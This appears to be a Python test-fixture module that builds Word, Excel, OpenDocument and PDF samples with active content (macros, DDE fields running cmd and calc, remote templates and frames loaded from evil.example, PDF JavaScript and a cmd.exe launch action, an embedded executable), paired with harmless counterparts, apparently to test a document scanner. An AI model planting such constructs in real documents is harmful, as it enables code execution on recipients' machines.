"""Files that would do something when they are opened, and their harmless brothers."""

import io
import struct
import zipfile

import docx
import openpyxl
import pypdfium2

RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
ELSEWHERE = '<Relationship Id="rId9" Type="{kind}{name}" Target="http://evil.example/x" TargetMode="External"/>'


def word(text: str = "说明") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def excel() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["企业名称", "统一社会信用代码"])
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def with_part(content: bytes, name: str, part: bytes | str) -> bytes:
    """The same zip with one part more, or another one."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(file, "w") as after:
        for entry in before.infolist():
            if entry.filename != name:
                after.writestr(entry, before.read(entry))
        after.writestr(name, part)
    return file.getvalue()


def related(content: bytes, owner: str, name: str) -> bytes:
    """With a relation of this kind that leads elsewhere."""
    return with_part(content, owner, RELS.format(ELSEWHERE.format(kind=KIND, name=name)))


def with_field(*runs: str) -> bytes:
    """A Word file whose field is written in these runs."""
    cut = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    content = word()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        body = archive.read("word/document.xml").decode()
    return with_part(content, "word/document.xml", body.replace("<w:p>", f"<w:p>{cut}", 1))


def ole(*names: str, inside: bytes = b"") -> bytes:
    """A file that begins as an older Office file does, with these parts in its directory."""
    entries = [
        name.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<H", len(name) * 2 + 2) + bytes(62)
        for name in ("Root Entry", *names)
    ]
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + inside + b"".join(entries)


def pdf(catalog: str = "", more: str = "") -> bytes:
    """A page of a PDF, written by hand; pdfium mends the missing table."""
    return (
        f"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R {catalog} >>\nendobj\n"
        "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n"
        f"{more}trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    ).encode()


def pdf_with_attachment() -> bytes:
    document = pypdfium2.PdfDocument.new()
    document.new_page(200, 200)
    attached = document.new_attachment("program.exe")
    attached.set_data(b"MZ")
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


RUNS: dict[str, tuple[str, bytes, str]] = {
    "Word with macros": ("a.docx", with_part(word(), "word/vbaProject.bin", b"x"), "宏"),
    "Excel with macros in capitals": ("a.xlsx", with_part(excel(), "XL/VBAPROJECT.BIN", b"x"), "宏"),
    "Excel 4 macros": ("a.xlsx", with_part(excel(), "xl/macrosheets/sheet1.xml", b"<a/>"), "宏"),
    "OpenDocument with a module": ("a.ods", with_part(excel(), "Basic/Standard/Module1.xml", b"x"), "宏"),
    "an embedded program": ("a.docx", with_part(word(), "word/embeddings/oleObject1.bin", b"x"), "对象"),
    "a control": ("a.xlsx", with_part(excel(), "xl/activeX/activeX1.bin", b"x"), "对象"),
    "a template from elsewhere": (
        "a.docx", related(word(), "word/_rels/settings.xml.rels", "attachedTemplate"), "从别处取",
    ),
    "an object from elsewhere": (
        "a.docx", related(word(), "word/_rels/document.xml.rels", "oleObject"), "从别处取",
    ),
    "a frame from elsewhere": (
        "a.docx", related(word(), "word/_rels/webSettings.xml.rels", "frame"), "从别处取",
    ),
    "a workbook that starts a program": (
        "a.xlsx",
        with_part(excel(), "xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
        "DDE",
    ),
    "a field that starts a program": ("a.docx", with_field("DDEAUTO c:\\\\cmd.exe"), "DDE"),
    "the same field cut into runs": ("a.docx", with_field(" DD", "EAU", "TO cmd"), "DDE"),
    "an old Word file with macros": ("a.doc", ole("WordDocument", "Macros"), "宏"),
    "an old Excel file with macros": ("a.xls", ole("Workbook", "_VBA_PROJECT_CUR"), "宏"),
    "an old file with a program": ("a.doc", ole("WordDocument", "\x01Ole10Native"), "对象"),
    "an old Excel file with an object": ("a.xls", ole("Workbook", "MBD0001A2B3"), "对象"),
    "a PDF with a script": (
        "a.pdf", pdf("/OpenAction 4 0 R", "4 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"), "脚本",
    ),
    "a PDF that starts a program": (
        "a.pdf", pdf("/OpenAction 4 0 R", "4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "脚本",
    ),
    "a PDF with a program in it": ("a.pdf", pdf_with_attachment(), "附件"),
}  # fmt: skip
"""What it is → name, content, a word of the reason."""

HARMLESS: dict[str, tuple[str, bytes]] = {
    "Word": ("a.docx", word()),
    "Word that speaks of DDE and macros": ("a.docx", word("DDEAUTO 宏 vbaProject")),
    "Word with a link to click": ("a.docx", related(word(), "word/_rels/footnotes.xml.rels", "hyperlink")),
    "a field with a page number": ("a.docx", with_field("PAGE ")),
    "Excel": ("a.xlsx", excel()),
    "Excel with values from another workbook": (
        "a.xlsx", with_part(excel(), "xl/externalLinks/externalLink1.xml", "<externalBook/>"),
    ),
    "Word with a chart's workbook": (
        "a.docx", with_part(word(), "word/embeddings/Microsoft_Excel_Sheet1.xlsx", excel()),
    ),
    "OpenDocument without a module": ("a.ods", with_part(excel(), "Basic/Standard/script-lb.xml", b"<a/>")),
    "an old Word file that speaks of macros": (
        "a.doc", ole("WordDocument", inside="Macros ObjectPool".encode("utf-16-le")),
    ),
    "a PDF": ("a.pdf", pdf()),
    "a picture": ("a.png", b"\x89PNG\r\n\x1a\n" + bytes(100)),
    "a text": ("a.csv", "企业名称,宏\n".encode()),
}  # fmt: skip
